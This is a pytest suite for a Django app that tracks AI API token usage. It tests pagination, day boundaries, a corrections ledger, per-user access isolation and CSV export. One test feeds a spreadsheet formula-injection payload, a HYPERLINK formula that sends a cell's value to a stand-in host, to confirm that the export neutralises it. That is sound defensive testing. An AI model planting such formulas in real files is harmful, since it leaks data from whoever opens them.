"""Calls and corrections come in pages that neither overlap nor leave anything out."""

from datetime import datetime, timedelta
from typing import Any

import pytest
from django.utils import timezone

from codextime.accounts.models import User
from codextime.accounts.services import start_session_grouping
from codextime.usage.models import Source
from codextime.usage.readings import CallReading, Withdrawal
from codextime.usage.services import change_time_zone, rename_source, store_calls
from tests.programs.asking import Program
from tests.usage.burning import SOURCE, burn, call


def follow(program: Program, path: str) -> list[list[dict[str, Any]]]:
    """The rows of each page, up to the last one."""
    pages, after = [], ""
    while after is not None:
        answer = program.read(path + (f"&cursor={after}" if after else ""))
        pages.append(answer["rows"])
        after = answer["next"]
    return pages


@pytest.fixture
def corrected(owner: User, now: datetime) -> tuple[CallReading, ...]:
    """Three calls of one instant and one an hour later, of which one was then recounted and one withdrawn."""
    later = call(now + timedelta(hours=1))  # whose id is below the others
    readings = (*(call(now) for _ in range(3)), later)
    burn(owner, *readings, label="desk")
    better = readings[0]._replace(input_tokens=1001, revision=258, reason="completed")
    wrong = Withdrawal(readings[1].call_id, 258, "duplicate")
    store_calls(user=owner, device=None, source_key=SOURCE, label=None, calls=[better], withdrawals=[wrong], now=now)
    return readings


def test_a_call_has_all_that_is_stored_of_it(program: Program, owner: User, now: datetime) -> None:
    start_session_grouping(user=owner, now=now)
    reading = call(now, tokens=(1000, 600, 30, 200, 50))._replace(thread="ab" * 16, revision=7)
    burn(owner, reading, label="desk")

    assert program.read("usage/calls")["rows"] == [
        {
            "id": reading.call_id.hex(),
            "at": "2026-11-20T12:00:00Z",
            "model": "gpt-5.4",
            "label": "desk",
            "input_tokens": 1000,
            "cached_input_tokens": 600,
            "cache_write_input_tokens": 30,
            "output_tokens": 200,
            "reasoning_output_tokens": 50,
            "revision": 7,
            "is_estimate": True,
            "thread": "ab" * 16,
        }
    ]


def test_pages_of_calls_follow_each_other_also_within_one_instant(
    program: Program, corrected: tuple[CallReading, ...]
) -> None:
    pages = follow(program, "usage/calls?limit=1")

    kept = [reading.call_id.hex() for reading in corrected if reading != corrected[1]]
    assert [[row["id"] for row in page] for page in pages] == [[each] for each in kept]


def test_calls_are_those_of_the_owner_s_days(program: Program, owner: User, now: datetime) -> None:
    change_time_zone(user=owner, name="Asia/Kolkata")
    burn(
        owner,
        *(call(at) for at in ("2026-11-19T18:29Z", "2026-11-19T18:30Z", "2026-11-20T18:29:59Z", "2026-11-20T18:30Z")),
    )

    rows = program.read("usage/calls?from=2026-11-20&to=2026-11-20")["rows"]

    assert [row["at"] for row in rows] == ["2026-11-19T18:30:00Z", "2026-11-20T18:29:59Z"]


def test_a_page_in_csv_says_in_its_head_where_the_next_one_is(
    program: Program, corrected: tuple[CallReading, ...]
) -> None:
    answer = program.ask("usage/calls?limit=2&model=gpt-5.4", Accept="text/csv")
    following = answer["Link"].removeprefix("</api/v1/").partition(">")[0]

    assert answer["Link"].endswith('>; rel="next"')
    assert [row["id"] for row in program.read_csv(following)] == [corrected[3].call_id.hex()]
    assert "Link" not in program.ask(following, Accept="text/csv")


def test_the_ledger_says_what_changed_and_why_newest_first(
    program: Program, corrected: tuple[CallReading, ...]
) -> None:
    recounted, withdrawn = (reading.call_id.hex() for reading in corrected[:2])

    rows = [page[0] for page in follow(program, "corrections?limit=1")]

    assert [(row["id"], row["tokens_before"], row["tokens_after"], row["reason"]) for row in rows] == [
        (withdrawn, 1200, 0, "duplicate"),
        (recounted, 1200, 1201, "completed"),
    ]
    assert rows[1] == {
        "made_at": "2026-11-20T12:00:00Z",
        "id": recounted,
        "at": "2026-11-20T12:00:00Z",
        "model": "gpt-5.4",
        "tokens_before": 1200,
        "tokens_after": 1201,
        "reason": "completed",
        "revision": 258,
        "counter_version": 2,
    }


def test_nobody_reads_what_belongs_to_another(
    program: Program, stranger: User, corrected: tuple[CallReading, ...]
) -> None:
    other = Program(stranger)

    for path in ("usage/calls", "corrections", "totals?group=thread", "totals?by=day", "totals?label=desk"):
        assert other.read(path)["rows"] == []
        assert program.read(path)["rows"] != [], path
    assert other.read("profile")["labels"] == []


def test_a_label_that_looks_like_a_formula_is_a_text_in_a_spreadsheet(
    program: Program, corrected: tuple[CallReading, ...]
) -> None:
    for label in ('=HYPERLINK("https://example.org?"&A1)', "+1", "-1", "@sum", 'a,"b"'):
        rename_source(source=Source.objects.get(), label=label)
        shown = label if label.startswith("a") else f"'{label}"

        assert {row["label"] for row in program.read_csv("usage/calls")} == {shown}
        assert program.read_csv("totals?group=label")[0]["label"] == shown
        assert program.read("totals?group=label")["rows"][0]["label"] == label


def test_the_profile_says_how_fresh_the_figures_are(program: Program, owner: User, now: datetime) -> None:
    burn(owner, call(now), call(now - timedelta(days=3)), label="desk")
    burn(owner, call(now), label="desk", is_rebuilt=False)

    profile = program.read("profile")

    assert profile | {"today": None} == {
        "user": owner.public_id,
        "time_zone": "UTC",
        "today": None,
        "handle": None,
        "session_grouping_since": None,
        "labels": ["desk"],
        "first_day": "2026-11-17",
        "last_day": "2026-11-20",
        "uploaded_at": None,
        "dates_being_rebuilt": 1,
        "calls_waiting_to_be_withdrawn": 0,
    }
    assert profile["today"] in {
        timezone.now().date().isoformat(),
        (timezone.now() - timedelta(minutes=1)).date().isoformat(),
    }
